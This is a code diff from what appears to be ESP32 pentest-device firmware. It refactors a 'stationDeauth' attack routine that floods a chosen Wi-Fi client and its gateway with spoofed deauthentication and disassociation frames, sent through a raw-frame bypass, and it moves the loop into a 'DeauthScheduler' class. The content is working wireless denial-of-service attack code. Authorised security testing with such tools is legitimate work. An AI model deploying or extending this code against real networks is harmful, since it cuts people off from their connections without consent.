@@ -4,6 +4,7 @@
 #include "core/net_utils.h"
 #include "core/utils.h"
 #include "core/wifi/wifi_common.h"
+#include "deauth_scheduler.h"
 #include "scan_hosts.h"
 #include "wifi_atks.h" // to use Station Deauth
 #include <esp_wifi.h>
@@ -43,7 +44,6 @@ void stationDeauth(Host host) {
     uint8_t MAC[6];
     uint8_t gatewayMAC[6];
     uint8_t victimIP[4];
-    wifi_ap_record_t sta_record;
     for (int i = 0; i < 4; i++) victimIP[i] = host.ip[i];
     String tssid = WiFi.SSID();
     int channel;
@@ -59,12 +59,11 @@ void stationDeauth(Host host) {
         return;
     }
 
-    memcpy(ap_record.bssid, gatewayMAC, 6);
     stringToMAC(host.mac.c_str(), MAC);
-    memcpy(sta_record.bssid, MAC, 6);
 
-    // Prepare deauth frame for each AP record
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
+    // Deauth and disassociate frames in both directions, prebuilt once
+    DeauthScheduler scheduler;
+    scheduler.addTarget(gatewayMAC, channel, MAC);
 
     drawMainBorderWithTitle("Station Deauth");
     tft.setTextSize(FP);
@@ -78,29 +77,14 @@ void stationDeauth(Host host) {
     long tmp = millis();
     int cont = 0;
     while (!check(AnyKeyPress)) {
-        // Send packets from AP to STA
-        wsl_bypasser_send_raw_frame(&ap_record, ap_record.primary, MAC);
-        deauth_frame[0] = 0xc0; // Deauth Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-        deauth_frame[0] = 0xa0; // Disassociate Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-
-        // Send packets from STA to AP
-        wsl_bypasser_send_raw_frame(&sta_record, ap_record.primary, gatewayMAC);
-        deauth_frame[0] = 0xc0; // Deauth Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-        deauth_frame[0] = 0xa0; // Disassociate Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-
-        cont += 3 * 4;
-        delay(50);
+        cont += scheduler.run(50);
         if (millis() - tmp > 1000) {
             tft.drawRightString(String(cont) + " fps", tftWidth - 12, tftHeight - 16, 1);
             cont = 0;
             tmp = millis();
         }
     }
+    scheduler.printReport();
 
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
     wifiDisconnect();
 }